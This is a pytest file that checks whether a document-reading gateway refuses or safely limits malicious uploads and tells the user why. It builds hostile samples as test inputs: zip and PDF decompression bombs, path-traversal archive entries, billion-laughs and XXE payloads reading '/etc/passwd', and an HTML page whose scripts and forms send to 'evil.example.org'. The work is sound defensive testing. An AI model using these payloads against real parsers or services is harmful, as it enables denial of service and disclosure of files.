"""Files made to break what reads them: nothing runs, nothing is fetched, nothing is lost, the person is told."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import pytest

from requests_app.gateways.documents import (
    Document,
    NoteKind,
    read_document,
    reading,
    safe_name,
    sheets,
    whole_text,
)
from requests_app.gateways.documents.limits import CELLS, DEPTH, FILE_BYTES, PAGES, PARTS, TEXT_CHARACTERS

FILES = Path(__file__).resolve().parents[2] / "files"
MEGABYTE = 1024 * 1024


def zipped(files: dict[str, bytes]) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return kept.getvalue()


def refused(document: Document, sentence: str) -> None:
    """Assert that nothing was read, and that the person is told why."""
    assert not document.is_readable
    (note,) = document.notes
    assert note.kind is NoteKind.UNREAD
    assert sentence in note.sentence


# Archives


def test_an_archive_that_unpacks_to_too_much_is_refused_by_what_it_claims() -> None:
    bomb = zipped({f"{place}.txt": b"0" * 30 * MEGABYTE for place in range(4)})
    assert len(bomb) < MEGABYTE
    refused(read_document("bomb.zip", bomb), "unpacks to more than 100 MB")


def test_an_archive_that_lies_about_its_size_is_stopped_while_it_unpacks() -> None:
    honest = zipped({"a.txt": b"0" * 120 * MEGABYTE})
    claimed = (120 * MEGABYTE).to_bytes(4, "little")
    document = read_document("liar.zip", honest.replace(claimed, (1000).to_bytes(4, "little")))
    assert not document.is_readable
    assert any(note.kind is NoteKind.UNREAD for part in document.walk() for note in part.notes)


def test_an_archive_in_an_archive_is_not_opened_and_said() -> None:
    document = read_document(
        "outer.zip", zipped({"reply.txt": b"We hold nothing.", "inner.zip": zipped({"a.txt": b"Hidden?"})})
    )
    assert "We hold nothing." in whole_text(document)
    assert "Hidden?" not in whole_text(document)
    assert "is an archive within another" in document.parts[1].notes[0].sentence


def test_paths_in_an_archive_lead_nowhere(tmp_path: Path) -> None:
    content = zipped({"../../../tmp/evil.txt": b"One", "/etc/passwd": b"Two", "a\\b\\..\\c.txt": b"Three"})
    document = read_document("paths.zip", content)
    assert [part.name for part in document.parts] == ["evil.txt", "passwd", "c.txt"]
    assert "pointed to folders elsewhere" in document.notes[0].sentence
    assert not Path("/tmp/evil.txt").exists()  # noqa: S108


def test_of_an_archive_with_very_many_files_the_first_are_read_and_the_rest_is_said() -> None:
    document = read_document("many.zip", zipped({f"{n}.txt": b"Words." for n in range(PARTS + 5)}))
    assert len(document.parts) == PARTS
    assert f"It holds {PARTS + 5} files; the first {PARTS} were read." in document.notes[0].sentence
    refused(read_document("crowd.zip", zipped({f"{n}.txt": b"" for n in range(2100)})), "holds 2100 files")


def test_one_file_that_stops_the_reading_does_not_take_the_others_with_it() -> None:
    document = read_document(
        "some.zip", zipped({"bad.pdf": b"%PDF-1.7 no more", "good.txt": b"We hold 14 records."})
    )
    assert "We hold 14 records." in whole_text(document)
    assert "is damaged" in document.parts[0].notes[0].sentence


def test_a_locked_archive_says_what_to_do() -> None:
    content = bytearray(zipped({"a.txt": b"Words."}))
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        flags = content.index(mark) + (6 if mark == b"PK\x03\x04" else 8)
        content[flags] |= 1
    (note,) = read_document("locked.zip", bytes(content)).parts[0].notes
    assert "is locked with a password" in note.sentence


# Markup

ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><w:document xmlns:w="x"><w:body>&c;</w:body></w:document>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


@pytest.mark.parametrize("markup", [ENTITIES, OUTSIDE], ids=["a bomb of entities", "a file from outside"])
@pytest.mark.parametrize(
    ("name", "path"),
    [
        ("a.docx", "word/document.xml"),
        ("a.odt", "content.xml"),
        ("a.xlsx", "xl/workbook.xml"),
        ("a.ods", "content.xml"),
    ],
)
def test_markup_that_defines_words_of_its_own_is_refused(name: str, path: str, markup: bytes) -> None:
    files = {path: markup}
    if name.endswith(("odt", "ods")):
        kind = "text" if name.endswith("odt") else "spreadsheet"
        files = {"mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(), **files}
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for each, content in files.items():
            archive.writestr(each, content)
    document = read_document(name, kept.getvalue())
    assert not document.is_readable
    assert "lol" not in document.text
    assert "root:" not in document.text
    assert document.notes[0].kind is NoteKind.UNREAD


def test_a_page_of_scripts_forms_and_remote_pictures_gives_its_words_only() -> None:
    page = (
        "<html><body onload='steal()'><script>fetch('https://evil.example.org')</script><p>We hold 14 records.</p>"
        "<form action='https://evil.example.org'><input value='secret'><select><option>no</option></select></form>"
        "<img src='https://evil.example.org/a.gif' onerror='x()'><iframe src='//evil.example.org'></iframe>"
        "<svg><script>1</script></svg><a href='javascript:steal()'>Click</a><object data='x'>no</object></body></html>"
    )
    document = read_document("page.html", page.encode())
    assert document.text.split("\n") == ["We hold 14 records.", "Click"]
    sentence = document.notes[0].sentence
    for said in (
        "programs (scripts)",
        "form fields",
        "other pages put inside it",
        "pictures kept on other computers",
    ):
        assert said in sentence


def test_elements_a_hundred_thousand_deep_keep_their_words() -> None:
    deep = "<div>" * 100_000 + "We hold 14 records." + "</div>" * 100_000
    assert "We hold 14 records." in read_document("deep.html", deep.encode()).text
    assert DEPTH < 1000


def test_a_table_that_claims_a_million_columns_is_a_small_table() -> None:
    page = "<table><tr><td colspan='99999'>a</td><td>1</td></tr><tr><td rowspan='99999'>b</td><td>2</td></tr></table>"
    assert len(read_document("wide.html", page.encode()).text) < 10_000


# Text


def test_a_line_of_ten_megabytes_is_cut_and_said() -> None:
    document = read_document("long.html", b"<p>" + b"word " * (2 * MEGABYTE) + b"</p>")
    assert len(document.text) == TEXT_CHARACTERS
    assert "what lies beyond is left out. All of it is in the file." in document.notes[-1].sentence


def test_characters_that_turn_the_direction_are_taken_out_and_said() -> None:
    document = read_document("turned.html", "<p>Decision: \u202edesufer\u202c \u2066x\u2069</p>".encode())
    assert document.text == "Decision: desufer x"
    assert "turn its direction" in document.notes[0].sentence


def test_a_file_name_that_is_a_path_or_turns_its_direction_is_made_plain() -> None:
    assert safe_name("../../etc/passwd") == "passwd"
    assert safe_name("C:\\secret\\reply\u202efdp.exe") == "replyfdp.exe"
    assert safe_name("\x00\n") == "file"
    assert safe_name("..") == "file"
    assert len(safe_name("a" * 500 + ".pdf")) == 120
    assert safe_name("a" * 500 + ".pdf").endswith(".pdf")


@pytest.mark.parametrize(
    ("content", "wanted"),
    [
        ("Café – £5".encode("cp1252"), "Café – £5"),
        ("Café – £5".encode(), "Café – £5"),
        ("Café – £5".encode("utf-16"), "Café – £5"),
        ("Café – £5 and more".encode("utf-16-le"), "Café – £5 and more"),
        ("Café – £5".encode("utf-8-sig"), "Café – £5"),
        (("é" * 200).encode() + b"\xff", "é" * 200 + "\ufffd"),
    ],
)
def test_alphabets_are_told_apart(content: bytes, wanted: str) -> None:
    assert read_document("words.csv", content).text.replace(" |", "").strip() == wanted


def test_controls_that_no_database_takes_are_gone() -> None:
    text = read_document("a.html", b"<p>We\x01 hold\x08 14&#0;\x0c records.</p>").text
    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in text)
    assert "14" in text


# PDF


def pdf(objects: list[bytes], *, pages: int = 1) -> bytes:
    """A PDF of these objects, numbered from one; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    return bytes(out)


def a_page(content: bytes, *, packed: bool = False, count: int = 1) -> bytes:
    """A PDF that shows the same page ``count`` times."""
    data = zlib.compress(content, 9) if packed else content
    kind = b"/Filter /FlateDecode " if packed else b""
    kids = b" ".join([b"3 0 R"] * count)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids),
            (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                b"/Resources << /Font << /F 5 0 R >> >> >>"
            ),
            b"<< %s/Length %d >>\nstream\n%s\nendstream" % (kind, len(data), data),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


WORDS = b"BT /F 12 Tf 72 720 Td (We hold 14 records.) Tj ET"


BOX = b" 0 g 60 715 200 18 re f"


def test_words_that_somebody_only_painted_over_are_told_and_not_in_the_text() -> None:
    other = b" BT /F 12 Tf 72 600 Td (Who was told?) Tj ET"
    document = read_document("painted.pdf", a_page(WORDS + BOX + other))
    assert document.text == "Who was told?"
    (note,) = document.notes
    assert note.kind is NoteKind.HIDDEN
    assert note.sentence.startswith("Page 1: words stand under black boxes")


def test_white_words_on_a_dark_heading_are_words() -> None:
    document = read_document("heading.pdf", a_page(BOX + b" 1 g " + WORDS))
    assert document.text == "We hold 14 records."
    assert document.notes == ()


def test_of_a_pdf_with_a_vast_number_of_pages_the_first_are_read_and_the_rest_is_said() -> None:
    document = read_document("pages.pdf", a_page(WORDS, count=PAGES + 700))
    assert document.pages == PAGES + 700
    assert "We hold 14 records." in document.text
    assert f"the first {PAGES:,} were read" in document.notes[-1].sentence


def test_a_pdf_that_claims_pages_it_has_not_is_read_as_far_as_it_goes() -> None:
    content = a_page(WORDS).replace(b"/Count 1", b"/Count 99999999")
    document = read_document("claims.pdf", content)
    assert document.is_readable or document.notes


def test_a_page_whose_content_unpacks_to_a_gigabyte_ends_its_process_only() -> None:
    bomb = a_page(b" " * 400 * MEGABYTE + WORDS, packed=True)
    assert len(bomb) < MEGABYTE
    document = read_document("bomb.pdf", bomb)
    assert document.is_readable or any(note.kind is NoteKind.UNREAD for note in document.notes)


def test_a_page_of_a_million_letters_is_read_within_limits_or_not_at_all() -> None:
    many = b"BT /F 4 Tf 20 800 Td " + b"(All work and no play makes Jack a dull boy. ) Tj " * 25_000 + b"ET"
    document = read_document("letters.pdf", a_page(many, packed=True))
    assert document.is_readable or document.notes[0].kind is NoteKind.UNREAD
    assert len(document.text) <= TEXT_CHARACTERS


def test_a_page_of_a_million_drawn_lines_is_read_within_limits() -> None:
    lines = b"".join(
        b"%d %d m %d %d l S\n" % (n % 595, n % 842, 595 - n % 300, n % 842) for n in range(200_000)
    )
    document = read_document("lines.pdf", a_page(WORDS + lines, packed=True))
    assert "We hold 14 records." in document.text


def test_a_page_that_draws_itself_ends() -> None:
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 4 >>\nstream\n/X Do\nendstream"
    document = read_document(
        "itself.pdf",
        pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >> >>",
                form,
                b"<< /Length 5 >>\nstream\n/X Do\nendstream",
            ]
        ),
    )
    assert document.kind in ("pdf", "unreadable")


# Workbooks


def workbook(sheet: bytes, more: dict[str, bytes] | None = None) -> bytes:
    """A real workbook with other cells in its first sheet, and more files in it."""
    with zipfile.ZipFile(FILES / "figures.xlsx") as archive:
        files = {name: archive.read(name) for name in archive.namelist() if "pivot" not in name}
    main = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    files["xl/worksheets/sheet1.xml"] = b"<worksheet xmlns='%s'>%s</worksheet>" % (main, sheet)
    return zipped(files | (more or {}))


def test_links_to_elsewhere_macros_and_pivot_caches_are_told_and_left_alone() -> None:
    content = workbook(
        b"<sheetData><row r='1'><c r='A1'><f>[1]x!A1</f><v>5</v></c><c r='B1'><v>6</v></c></row></sheetData>",
        {
            "xl/externalLinks/externalLink1.xml": b"<x/>",
            "xl/vbaProject.bin": b"macro",
            "xl/pivotCache/pivotCacheRecords1.xml": b"<x/>",
            "xl/comments1.xml": b"<x/>",
        },
    )
    document = read_document("links.xlsx", content)
    assert "5 6" in document.text
    told = " ".join(note.sentence for note in document.notes)
    for said in (
        "refers to other files",
        "programs (macros). Nothing was run",
        "A pivot table",
        "Comments on cells",
    ):
        assert said in told


def test_a_sheet_with_more_cells_than_can_be_shown_is_cut_and_said() -> None:
    rows = b"".join(
        b"<row r='%d'>%s</row>" % (n, b"<c><v>1</v></c>" * 100) for n in range(1, CELLS // 100 + 500)
    )
    document = read_document("cells.xlsx", workbook(b"<sheetData>%s</sheetData>" % rows))
    assert sum(len(row) for table in document.tables for row in table.rows) <= CELLS
    assert "is longer than the 200,000 cells of a file" in document.notes[-1].sentence


def test_a_sheet_with_one_cell_at_the_far_corner_takes_no_memory() -> None:
    far = b"<sheetData><row r='1'><c r='A1'><v>1</v></c></row><row r='1048576'><c r='XFD1048576'><v>2</v></c></row></sheetData>"
    document = read_document("far.xlsx", workbook(far))
    assert document.is_readable or document.notes[0].kind is NoteKind.UNREAD


# Whatever else


@pytest.mark.parametrize(
    "name", sorted(path.name for path in FILES.iterdir() if path.suffix not in (".py", ""))
)
def test_half_a_file_is_read_as_far_as_it_goes_or_says_why_not(name: str) -> None:
    content = (FILES / name).read_bytes()
    document = read_document(name, content[: len(content) // 2])
    assert document.is_readable or document.notes


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("empty.pdf", b"", "“empty.pdf” is empty."),
        ("setup.exe", b"MZ" + bytes(500), "is a program, not a reply. Nothing in it was run."),
        (
            "old.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"),
            "save it as .docx or PDF",
        ),
        ("slides.pptx", zipped({"ppt/presentation.xml": b"<x/>"}), "is a set of slides."),
        ("pack.rar", b"Rar!\x1a\x07" + bytes(100), "Unpack it and upload the files in it."),
        ("noise.bin", bytes(range(256)) * 40, "is of a kind that can't be read here."),
        ("noise.txt", bytes(range(256)) * 40, "is not text, whatever its name says."),
        ("bad.docx", b"PK\x03\x04" + b"\x00" * 200, "is damaged"),
        ("bad.pdf", b"%PDF-1.7\ngarbage", "is damaged"),
        (
            "bad.msg",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "__properties_version1.0".encode("utf-16-le"),
            "can't be opened",
        ),
        ("bad.png", b"\x89PNG\r\n\x1a\n" + bytes(100), "is damaged"),
    ],
    ids=lambda value: value if isinstance(value, str) and "." in value[:12] else "",
)
def test_what_cannot_be_read_says_why_and_what_to_do(name: str, content: bytes, sentence: str) -> None:
    refused(read_document(name, content), sentence)


def test_a_file_larger_than_can_be_taken_is_kept_and_not_read() -> None:
    refused(
        read_document("large.pdf", b"%PDF-" + bytes(FILE_BYTES)),
        "is larger than 25 MB: it was kept, and not read.",
    )


def test_a_library_that_panics_on_one_attachment_leaves_the_others_alone(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    class Panic(BaseException):
        """What calamine raises where its Rust runs over the end of a broken .xls."""

    def panic(name: str, content: bytes) -> Document:
        raise Panic

    monkeypatch.setattr(sheets, "read_xls", panic)
    bundle = zipped({"a.xls": (FILES / "figures.xls").read_bytes(), "b.txt": b"We hold 14 records."})
    document = reading.read("some.zip", bundle)
    assert "We hold 14 records." in whole_text(document)
    assert "can't be read: it is damaged" in document.parts[0].notes[0].sentence
